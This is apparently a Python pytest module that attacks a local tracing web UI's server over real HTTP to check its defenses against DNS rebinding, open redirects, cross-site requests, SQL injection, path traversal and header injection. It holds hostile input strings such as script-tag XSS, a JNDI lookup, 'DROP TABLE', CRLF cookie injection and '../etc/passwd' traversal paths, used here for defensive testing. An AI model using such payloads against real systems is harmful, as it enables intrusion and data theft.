"""Attacks on the page's server, by their ids in docs/reliability.md: a real server, real HTTP."""

from __future__ import annotations

import http.client
import json
import re
import secrets
import socket
import sqlite3
from collections.abc import Iterator, Mapping
from contextlib import ExitStack, closing
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import quote

import httpx
import pytest
from inprocess import settings_for
from pages import browser, serving, stranger, ui
from searching import build
from store_rows import START_NS, StoreRows

from hush_otel.store.database import Database
from hush_otel.store.ingest import Ingest
from hush_otel.store.reading import Reader
from hush_otel.web import headers, pages
from hush_otel.web.answers import BODY_BYTES, THREADS, Question
from hush_otel.web.auth import Door
from hush_otel.web.server import PageServer

TRACE = f"{1:032x}"
SPAN = f"/api/requests/r/spans/{TRACE}/{1:016x}"

HOSTILE = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "__proto__",
    "constructor",
    "javascript:alert(1)",
    "\x1b[31mred\x1b]0;title\x07\x9b2J",
    "left\u202egnp.exe\u2066",
    "quote\"'`;--\r\nSet-Cookie: a=b",
    "'; DROP TABLE hush_requests; --",
    "${jndi:ldap://evil} {{7*7}} %00 %0d%0a",
    "../../../../etc/passwd",
    "\x00nul",
    "\U0001f600 \u2028 \ufeff",
)
"""What people and models put into names, keys and values."""


class Answer(NamedTuple):
    """What a server has said."""

    status: int
    headers: Mapping[str, str]
    body: bytes


def raw(
    server: PageServer, target: str, method: str = "GET", body: bytes | None = None, **fields: str
) -> Answer:
    """One request as it stands: nothing is normalized, and headers are what they are said to be."""
    connection = http.client.HTTPConnection("127.0.0.1", server.door.port, timeout=30)
    connection.putrequest(method, target, skip_host=True, skip_accept_encoding=True)
    sent = {"Host": f"127.0.0.1:{server.door.port}", "Content-Length": str(len(body or b""))}
    for name, value in (sent | {name.replace("_", "-"): value for name, value in fields.items()}).items():
        connection.putheader(name, value)
    connection.endheaders(body)
    answer = connection.getresponse()
    found = Answer(answer.status, {k.lower(): v for k, v in answer.getheaders()}, answer.read())
    connection.close()
    return found


def cookie(server: PageServer) -> str:
    """As a browser that is logged in sends it."""
    return f"other=1; {server.door.cookie}={server.door.session}"


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A request whose span has everything hostile in its name, its attributes, their keys, and its files."""
    path = tmp_path_factory.mktemp("security") / "traces.db"
    attributes = {text: text for text in HOSTILE} | {"input.value": json.dumps({"__proto__": {"x": 1}})}
    with StoreRows(path) as rows:
        request = rows.request("r", workflow_name=HOSTILE[0], user_id=HOSTILE[1], session_id=HOSTILE[6])
        rows.span(request, 1, name=HOSTILE[0], attributes=json.dumps(attributes))
        rows.span(request, 2, 1, name=HOSTILE[5], status_code=2, status_message=HOSTILE[4])
        rows.long_span(request, 3, HOSTILE[0], "long " * 800_000)
        for text in HOSTILE:
            rows.request(text)
    with sqlite3.connect(path) as connection:
        connection.execute("INSERT INTO hush_media (id, digest, data) VALUES (1, zeroblob(32), '<svg/>')")
        kind = 'image/png\r\nX-Evil: 1; name="../x"'
        connection.execute("INSERT INTO hush_span_media VALUES (1, 0, 1, ?)", (kind,))
    connection.close()
    with closing(Database(path)) as database:
        build(database, Ingest())
    return path


@pytest.fixture(scope="module")
def server(db: Path) -> Iterator[PageServer]:
    """One server for all that does not change it."""
    with serving(db) as server:
        yield server


# ------------------------------------------------------------------------------ S5: others that talk to it


@pytest.mark.parametrize(
    "host",
    ["evil.example:{port}", "127.0.0.1", "127.0.0.1:1", "localhost.evil.example:{port}", "127.0.0.1.nip.io:{port}",
     "0.0.0.0:{port}", "[::]:{port}", "user@127.0.0.1:{port}", "127.0.0.1:{port}@evil", "", "2130706433:{port}"],
)  # fmt: skip
def test_s05_a_name_that_is_not_ours_is_refused(server: PageServer, host: str) -> None:
    """DNS rebinding: the page of a name that points here reads nothing, cookie or not."""
    answer = raw(
        server,
        "/api/requests",
        Host=host.format(port=server.door.port) or "x",
        Cookie=cookie(server),
    )
    assert answer.status == 421
    assert b'"r"' not in answer.body


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "LOCALHOST", "[::1]"])
def test_s05_the_servers_own_names_are_known(server: PageServer, host: str) -> None:
    """By address and by name, in any case."""
    answer = raw(server, "/api/requests", Host=f"{host}:{server.door.port}", Cookie=cookie(server))
    assert answer.status == 200


def test_s05_two_hosts_or_none_are_refused(server: PageServer) -> None:
    """What one reader takes for the host another might not."""
    port = server.door.port
    for head in (f"Host: 127.0.0.1:{port}\r\nHost: evil:{port}\r\n", ""):
        with socket.create_connection(("127.0.0.1", port), timeout=30) as connection:
            connection.sendall(
                f"GET /api/requests HTTP/1.1\r\n{head}Cookie: {cookie(server)}\r\n\r\n".encode()
            )
            status = int(connection.recv(4096).split()[1])
        assert status in {400, 421}


PATHS = ["/", "/requests/r", "/deliveries", "/nope", "/api/requests", "/api/requests/r/tree", "/api/events",
         "/api/status", "/api/nope", "/api/deliveries/retry", SPAN, f"{SPAN}/payload?of=input", "//api/requests",
         "/api/requests/r/share", "/api/requests/r/share/html", "/api/compare/step?a=r&b=r"]  # fmt: skip


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize(
    "sent",
    [
        "",
        "{name}=",
        "{name}=wrong",
        "{name}={token}",
        "hush_session={session}",
        "{name}",
        "=;;;=",
        "{name}=é",
    ],
)
def test_s05_without_the_cookie_nothing_is_answered(server: PageServer, path: str, sent: str) -> None:
    """For pages a page that says what to do, for the rest an error."""
    door = server.door
    given = sent.format(name=door.cookie, token=door.token, session=door.session)
    method = "POST" if path.endswith("retry") else "GET"
    answer = raw(server, path, method, Cookie=given, Origin=door.url)
    assert answer.status == 401
    assert b"hush-otel ui" in answer.body
    assert answer.headers["content-type"].startswith(
        "application/json" if path.startswith("/api") else "text/html"
    )
    assert door.token.encode() not in answer.body


@pytest.mark.parametrize("token", ["", "wrong", "é", "\ud800", "x" * 5000])
def test_s05_a_wrong_token_opens_nothing(server: PageServer, token: str) -> None:
    """No cookie is set."""
    answer = raw(server, "/login?token=" + quote(token.encode("utf-8", "replace")))
    assert answer.status == 401
    assert "set-cookie" not in answer.headers


@pytest.mark.parametrize("before", ['{"a":1}', "foo[bar]=1", 'x="unterminated', "bad;;=", "{name}=other"])
def test_s05_cookies_of_other_programs_shut_nobody_out(server: PageServer, before: str) -> None:
    """Cookies know no ports: what another server of this machine has set is sent here, too, of any form."""
    door = server.door
    given = before.replace("{name}", door.cookie) + f"; {door.cookie}={door.session}"
    assert raw(server, "/api/requests", Cookie=given).status == 200


def test_s05_a_wrong_token_is_not_tried_again(server: PageServer) -> None:
    """The same address would say the same; where only the cookie was missing, a link leads there again."""
    assert b"Try again" not in raw(server, "/login?token=wrong").body
    assert b"Try again" in raw(server, "/").body


def test_s05_the_cookie_is_for_this_server_and_no_script(server: PageServer) -> None:
    """HttpOnly, SameSite=Strict, gone with the browser; it is not the token, and it is named by the port."""
    answer = raw(server, f"/login?token={server.door.token}")
    assert answer.status == 303
    name, _, rest = answer.headers["set-cookie"].partition("=")
    value, *flags = rest.split("; ")
    assert name == f"hush_session_{server.door.port}"
    assert value == server.door.session != server.door.token
    assert {flag.lower() for flag in flags} == {"httponly", "samesite=strict", "path=/"}


def test_s05_a_link_elsewhere_leads_in_without_a_redirect(server: PageServer) -> None:
    """A browser that another site has sent here would not send a strict cookie after a redirect."""
    answer = raw(server, f"/login?token={server.door.token}", Sec_Fetch_Site="cross-site")
    assert (answer.status, "set-cookie" in answer.headers) == (200, True)
    assert b'content="0; url=/"' in answer.body


@pytest.mark.parametrize(
    ("said", "leads_to"),
    [
        ("/requests/a%2Fb?span=1-2", "/requests/a%2Fb?span=1-2"),
        ("https://evil.example", "/"),
        ("//evil.example", "/"),
        ("/\\evil.example", "/"),
        ("/..//evil.example", "/"),
        ("/.//evil.example", "/"),
        ("/\r\nSet-Cookie: a=b", "/"),
        ("javascript:alert(1)", "/"),
        ("", "/"),
        ('/"><script>', "/%22%3E%3Cscript%3E"),
    ],
)
def test_s05_the_login_leads_to_our_own_pages_only(server: PageServer, said: str, leads_to: str) -> None:
    """No open redirect, by either way on."""
    target = f"/login?token={server.door.token}&next={quote(said, safe='')}"
    assert raw(server, target).headers["location"] == leads_to
    assert f'url={leads_to}"'.encode() in raw(server, target, Sec_Fetch_Site="cross-site").body


def retry(server: PageServer, body: bytes = b'{"ids": [1]}', **fields: str) -> Answer:
    """The one POST, as our own page sends it, but for what `fields` say."""
    sent = {"Cookie": cookie(server), "Content_Type": "application/json", "Origin": server.door.url}
    chosen = {name: value for name, value in (sent | fields).items() if value != "-"}
    return raw(server, "/api/deliveries/retry", "POST", body, **chosen)


@pytest.mark.parametrize(
    "origin", ["-", "null", "http://evil.example", "http://127.0.0.1", "http://localhost:{port}", "https://127.0.0.1:{port}",
               "http://127.0.0.1:{port}.evil.example", ""],
)  # fmt: skip
def test_s05_what_changes_something_needs_our_own_origin(server: PageServer, origin: str) -> None:
    """Another port, another scheme, another name, none: refused, though the cookie is right."""
    answer = retry(server, Origin=origin.format(port=server.door.port))
    assert answer.status == 403


@pytest.mark.parametrize("site", ["cross-site", "same-site", "odd"])
def test_s05_what_another_page_asks_for_is_refused(server: PageServer, site: str) -> None:
    """Whether it changes something or reads: browsers say who asks. Another port is the same site to them."""
    assert retry(server, Sec_Fetch_Site=site).status == 403
    assert raw(server, "/api/requests", Cookie=cookie(server), Sec_Fetch_Site=site).status == 403


@pytest.mark.parametrize("site", ["same-origin", "none"])
def test_s05_our_own_page_and_a_typed_address_are_answered(server: PageServer, site: str) -> None:
    """What the checks must not refuse."""
    assert raw(server, "/api/requests", Cookie=cookie(server), Sec_Fetch_Site=site).status == 200


@pytest.mark.parametrize(
    "method", ["PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "POST", "PROPFIND"]
)
def test_s05_only_reading_is_spoken_and_nobody_is_invited(server: PageServer, method: str) -> None:
    """A preflight gets no permission: there is no CORS."""
    for path in ("/api/requests", "/", "/login", "/static/bare.css"):
        answer = raw(server, path, method, Cookie=cookie(server), Origin=server.door.url)
        assert answer.status in {400, 405}, (path, answer.status)
        assert not [name for name in answer.headers if name.startswith("access-control-")]


def test_s05_a_form_cannot_ask(server: PageServer) -> None:
    """Types that a form can send, and JSON in their clothes."""
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "text/json", "-"):
        assert retry(server, Content_Type=kind).status == 415


@pytest.mark.parametrize("chunked", [False, True])
def test_s05_a_body_has_a_limit(server: PageServer, chunked: bool) -> None:
    """Said or not: what is longer is not read to its end."""
    sent = {"Cookie": cookie(server), "Content-Type": "application/json", "Origin": server.door.url}
    body = b'{"ids": [' + b" " * (BODY_BYTES + 1) + b"1]}"
    content: Any = iter([body[:1000], body[1000:]]) if chunked else body
    with stranger(server) as client:
        assert client.post("/api/deliveries/retry", content=content, headers=sent).status_code == 413


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"[]",
        b"1",
        b"{",
        b'{"ids": [1]',
        b"\xff",
        b'{"ids": [1e400]}',
        b"[" * 5000,
        b'{"a":' * 10_000,
        b'{"ids":' + b"[" * 60_000,
    ],
)
def test_s05_a_body_that_is_no_object_is_refused(server: PageServer, body: bytes) -> None:
    """With words, and nothing more."""
    assert retry(server, body).status == 400


@pytest.mark.parametrize("number", [0, -1, 1 << 63, 99999999999999999999999999])
def test_s05_numbers_that_no_delivery_has_are_not_asked_for(server: PageServer, number: int) -> None:
    """Refused before anything is written into the spool."""
    assert retry(server, b'{"ids": [%d]}' % number).status == 400


def test_s05_tokens_are_compared_in_constant_time(
    server: PageServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The token and the cookie go through compare_digest, whatever is sent."""
    compared: list[bytes] = []

    def compare(a: bytes, b: bytes) -> bool:
        compared.append(b)
        return a == b

    monkeypatch.setattr(secrets, "compare_digest", compare)
    raw(server, "/login?token=x")
    raw(server, "/api/requests", Cookie=f"{server.door.cookie}=x")
    assert compared == [server.door.token.encode(), server.door.session.encode()]


def test_s05_each_server_has_a_token_of_its_own() -> None:
    """256 bits each, and neither is shown where the object is."""
    doors = [Door(host="127.0.0.1", port=1) for _ in range(2)]
    values = [value for door in doors for value in (door.token, door.session)]
    assert len(set(values)) == 4
    assert all(len(value) == 43 for value in values)
    assert not any(value in repr(doors) for value in values)


def test_s05_addresses_of_a_server_that_listens_everywhere() -> None:
    """Any address is one of ours then, and this machine's name; another name is not."""
    door = Door(host="0.0.0.0", port=80)  # noqa: S104
    for host in ("192.168.1.7:80", "[fe80::1]:80", f"{socket.gethostname()}:80", "localhost:80"):
        assert door.knows_host(host)
    for host in ("evil.example:80", "192.168.1.7:81", "192.168.1.7.evil:80"):
        assert not door.knows_host(host)


def test_s05_the_token_is_said_once_and_never_logged(db: Path) -> None:
    """Whatever goes wrong: the first line on standard output has it, nothing else does, nor any answer."""
    with ui(db) as (process, url), httpx.Client(timeout=30.0) as client:
        token, base = url.partition("token=")[2], url.partition("/login")[0]
        answers = [client.get(url), client.get(url + "x"), client.get(f"{base}/login?token={token}&next=%FF")]
        answers += [
            client.get(base + path) for path in ("/", "/api/requests", "/api/nope?token=" + token[:5])
        ]
        with socket.create_connection(("127.0.0.1", httpx.URL(base).port or 0), timeout=30) as connection:
            connection.sendall(f"GET /login?token={token} NONSENSE\r\n\r\n".encode())
            connection.recv(4096)
        process.terminate()
        out, err = process.communicate(timeout=30)
    said = out + err + "".join(answer.text + str(answer.headers) for answer in answers)
    assert token not in said
    assert (out, err) == ("", "")


def test_s05_the_token_leaves_by_no_referer(server: PageServer) -> None:
    """The page that has it in its address sends none, and leaves it at once."""
    for site in ("none", "cross-site"):
        answer = raw(server, f"/login?token={server.door.token}", Sec_Fetch_Site=site)
        assert answer.headers["referrer-policy"] == "no-referrer"
        assert answer.headers["cache-control"] == "no-store"


def test_s05_clients_that_do_not_read_hinder_nobody(server: PageServer) -> None:
    """More of them than there are threads: the next question is answered all the same."""
    target = f"/api/requests/r/spans/{TRACE}/{3:016x}/payload?of=attribute&key={quote(HOSTILE[0])}"
    head = f"GET {target} HTTP/1.1\r\nHost: 127.0.0.1:{server.door.port}\r\nCookie: {cookie(server)}\r\n\r\n"
    with ExitStack() as stack:
        for _ in range(THREADS + 2):
            deaf = stack.enter_context(socket.create_connection(("127.0.0.1", server.door.port)))
            deaf.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            deaf.sendall(head.encode())
        assert raw(server, "/api/requests?limit=1", Cookie=cookie(server)).status == 200


# ------------------------------------------------------------------------------ S6: scripts in spans


EVERYWHERE = ["/", "/nope", "/requests/r", "/static/bare.css", "/static/nope", "/static", "/login?token=x", "/api/requests",
              "/api/requests?limit=x", "/api/requests/nope", "/api/nope", "/api/events?x", f"{SPAN}/payload?of=input", SPAN,
              f"{SPAN}/media/{'0' * 64}"]  # fmt: skip


@pytest.mark.parametrize("method", ["GET", "HEAD", "PUT"])
@pytest.mark.parametrize("path", EVERYWHERE)
@pytest.mark.parametrize("known", [True, False])
def test_s06_every_answer_has_the_headers(server: PageServer, path: str, method: str, known: bool) -> None:
    """Pages, files, errors, refusals, downloads, streams."""
    with stranger(server) as client:
        sent = {"Cookie": cookie(server)} if known else {}
        with client.stream(method, path, headers=sent) as answer:
            for name, value in headers.ALWAYS.items():
                assert answer.headers.get_list(name) == [value]
            kept = "no-cache" if path.startswith("/static/") else "no-store"
            assert answer.headers["cache-control"] == kept


def test_s06_refusals_of_the_sender_have_them_too(server: PageServer) -> None:
    """What is answered before anything is looked at."""
    for answer in (raw(server, "/", Host="evil"), retry(server, Origin="-"), retry(server, b"x")):
        assert answer.headers["content-security-policy"] == headers.POLICY


def test_s06_a_mistake_of_ours_says_nothing_and_has_them(
    db: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """An exception in an answer: JSON, without its words; those are on the terminal."""

    def fail(*_: object) -> Reader:
        raise RuntimeError("secret detail")

    monkeypatch.setattr(Question, "reader", fail)
    with serving(db) as server:
        answer = raw(server, "/api/requests", Cookie=cookie(server))
    assert answer.status == 500
    assert b"secret detail" not in answer.body
    assert json.loads(answer.body)["error"]["hint"]
    assert answer.headers["content-security-policy"] == headers.POLICY
    assert "secret detail" in caplog.text


def test_s06_the_policy_allows_nothing_inline_and_nothing_from_elsewhere() -> None:
    """Each source that is allowed is ours."""
    sources = dict(part.split(" ", 1) for part in headers.POLICY.split("; "))
    assert sources["default-src"] == "'none'"
    assert set(sources.values()) == {"'none'", "'self'", "'self' data:"}
    assert sources["script-src"] == "'self'"


def test_s06_our_own_files_need_nothing_inline() -> None:
    """No script in HTML, no handler, no style; and our scripts make no HTML of texts."""
    for file in pages.STATIC.rglob("*.html"):
        html = file.read_text(encoding="utf-8")
        assert not re.findall(
            r"<script(?![^>]*\bsrc=)|<style|\sstyle=|\son\w+=|javascript:|https?://", html
        ), file
    makes_html = r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function|https?://(?!www\.w3\.org)"
    for file in (pages.STATIC / "app").rglob("*.js"):
        assert not re.findall(makes_html, file.read_text(encoding="utf-8")), file


def test_s06_what_is_in_spans_is_data_to_the_browser(server: PageServer) -> None:
    """Every answer that carries it is JSON, and says so."""
    for path in (
        "/api/requests",
        "/api/requests/r",
        "/api/requests/r/tree",
        SPAN,
        "/api/facets",
        "/api/sessions",
    ):
        answer = raw(server, path, Cookie=cookie(server))
        assert (answer.status, answer.headers["content-type"]) == (200, "application/json")
        json.loads(answer.body)


def test_s06_an_error_page_quotes_nothing_unescaped(server: PageServer) -> None:
    """The address comes from whoever made the link."""
    for path in (
        f"/{quote(HOSTILE[0])}",
        f"/requests/a/{quote(HOSTILE[0])}",
        f"/login?token={quote(HOSTILE[0])}",
    ):
        answer = raw(server, path, Cookie=cookie(server))
        assert answer.status in {401, 404}
        assert b"<script>" not in answer.body


# ------------------------------------------------------------------------------ S7: SQL and paths


ODD = [
    *HOSTILE,
    "%",
    "%zz",
    "%ED%A0%80",
    "%FF%FE",
    "..",
    ".",
    "*",
    "a" * 3000,
    "' OR 1=1 --",
    "9" * 400,
    "-1",
    "NaN",
]


@pytest.mark.parametrize("text", ODD)
def test_s07_ids_in_paths_are_only_looked_for(server: PageServer, text: str) -> None:
    """Found or not, in any place of the path: never a failure of ours."""
    said = text if text.startswith("%") else quote(text, safe="")
    for path in ("/api/requests/{}", "/api/requests/{}/tree", "/api/sessions/{}", f"/api/requests/r/spans/{TRACE}/{{}}",
                 "/api/requests/r/spans/{}/" + TRACE, f"{SPAN}/media/{{}}", f"{SPAN}/payload?of={{}}",
                 f"{SPAN}/payload?of=attribute&key={{}}", "/requests/{}", "/static/{}"):  # fmt: skip
        answer = raw(server, path.format(said), Cookie=cookie(server))
        assert answer.status in {200, 400, 401, 404}, (path, answer)


QUESTIONS = {
    "/api/requests": ("status", "workflow", "model", "user", "session", "tag", "errors", "since", "until", "min_ms", "text",
                      "limit", "before"),
    "/api/sessions": ("limit", "before"),
    "/api/deliveries": ("state", "destination", "limit", "before"),
    "/api/stats": ("by", "since", "until", "workflow"),
    "/api/latency": ("since", "until", "workflow"),
    "/api/timeline": ("since", "until", "workflow"),
    "/api/compare": ("a", "b"),
}  # fmt: skip
NUMBERS = ["0", "-1", "1e400", "nan", "inf", "9" * 30, "1" * 5000, "1,2,3", f"1.0,{'9' * 30}", "nan,1", "inf,1", "-inf,0",
           f"{'9' * 400}s", f"{'9' * 400}d", "0001-01-01", "9999-12-31T23:59:59", "1_0", "٣"]  # fmt: skip


@pytest.mark.parametrize("text", [*ODD, *NUMBERS])
def test_s07_values_in_queries_are_only_compared(server: PageServer, text: str) -> None:
    """Any value of any parameter: an answer, or words; never a failure of ours."""
    with browser(server) as page:
        for path, names in QUESTIONS.items():
            for name in names:
                answer = page.get(path, params={name: text})
                assert answer.status_code in {200, 400, 404}, (path, name, answer.text)


def test_s07_the_page_reads_only(db: Path, server: PageServer) -> None:
    """After everything above the database is what it was; its connection could not change it."""
    with sqlite3.connect(db) as connection:
        assert connection.execute("SELECT count(*) FROM hush_requests").fetchone() == (len(HOSTILE) + 1,)
    connection.close()
    question = Question(settings=settings_for(db), path={}, query={})
    with question.reader() as reader, pytest.raises(sqlite3.OperationalError, match="readonly"):
        reader._connection.execute("DELETE FROM hush_requests")


def test_s07_a_question_that_takes_too_long_is_given_up(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It is told so, and its thread is free again."""
    with StoreRows(tmp_path / "t.db") as rows:
        request = rows.request("r")
        for number in range(1, 3000):
            rows.span(request, number, start_ns=START_NS)
    monkeypatch.setattr(Question, "reader", lambda _: Reader(tmp_path / "t.db", time_limit_s=0.0))
    with serving(tmp_path / "t.db") as server:
        answer = raw(server, "/api/requests/r/tree", Cookie=cookie(server))
    assert answer.status == 503
    assert b"longer than" in answer.body


@pytest.mark.parametrize(
    "path",
    ["/static/../server.py", "/static/%2e%2e/server.py", "/static/..%2fserver.py", "/static/%2e%2e%2fserver.py", "/static//etc/passwd",
     "/static/%2fetc%2fpasswd", "/static/./../auth.py", "/static/..\\server.py", "/static/%00", "/static/", "/static/app/../../API.md",
     "/static/....//server.py", "/static/%252e%252e/server.py", "/static/../../../../../../etc/passwd"],
)  # fmt: skip
def test_s07_static_files_are_those_that_lie_there(server: PageServer, path: str) -> None:
    """No way leads out of the directory, however it is written."""
    answer = raw(server, path, Cookie=cookie(server))
    assert answer.status == 404
    assert b"import" not in answer.body
    assert b"root:" not in answer.body


# ------------------------------------------------------------------------------ S8: names of downloads


def test_s08_a_text_is_saved_under_a_name_of_ours(server: PageServer) -> None:
    """Nothing of the attribute's key is in it, nor a type that a browser runs."""
    for key in HOSTILE:
        answer = raw(server, f"{SPAN}/payload?of=attribute&key={quote(key)}", Cookie=cookie(server))
        assert answer.status == 200
        assert answer.headers["content-disposition"] == f'attachment; filename="hush-{1:016x}-attribute.txt"'
        assert answer.headers["content-type"] == "text/plain; charset=utf-8"
        assert answer.body.decode() == key


def test_s08_a_file_is_saved_under_its_hash(server: PageServer) -> None:
    """Its type is what a span says, and that goes into no header."""
    answer = raw(server, f"{SPAN}/media/{'0' * 64}", Cookie=cookie(server))
    assert answer.headers["content-disposition"] == f'attachment; filename="{"0" * 64}"'
    assert answer.headers["content-type"] == "application/octet-stream"
    assert "x-evil" not in answer.headers


# ------------------------------------------------------------------------------ S9: where spans go


@pytest.mark.parametrize(
    "more", [{"endpoint": "http://evil"}, {"config": {}}, {"type": "otlp"}, {"headers": {"a": "b"}}, {"destination": "http://evil/"}]
)  # fmt: skip
def test_s09_the_page_names_no_receiver(server: PageServer, more: dict[str, object]) -> None:
    """It can ask for a known destination by its name, and say nothing of it."""
    body = {"ids": [1]} | more if "destination" not in more else more
    answer = retry(server, json.dumps(body).encode())
    assert answer.status in {400, 404}


# ------------------------------------------------------------------------------ B13: hostile content


def test_b13_hostile_texts_reach_the_page_as_they_are(server: PageServer) -> None:
    """Nothing is lost, nothing is run, and no key of an object is special."""
    found = json.loads(raw(server, SPAN, Cookie=cookie(server)).body)
    texts = {key: payload["text"] for key, payload in found["attributes"]}
    assert {text: texts[text] for text in HOSTILE} == {text: text for text in HOSTILE}
    assert found["span"]["name"] == HOSTILE[0]
    assert json.loads(found["input"]["text"]) == {"__proto__": {"x": 1}}
    listed = json.loads(raw(server, "/api/requests?limit=100", Cookie=cookie(server)).body)["requests"]
    assert {each["request_id"] for each in listed} == {"r", *HOSTILE}


@pytest.mark.parametrize("text", HOSTILE)
def test_b13_a_request_with_any_id_has_an_address(server: PageServer, text: str) -> None:
    """Its page, itself and its tree."""
    said = quote(text, safe="")
    assert raw(server, f"/requests/{said}", Cookie=cookie(server)).status == 200
    for path in (f"/api/requests/{said}", f"/api/requests/{said}/tree"):
        assert raw(server, path, Cookie=cookie(server)).status == 200
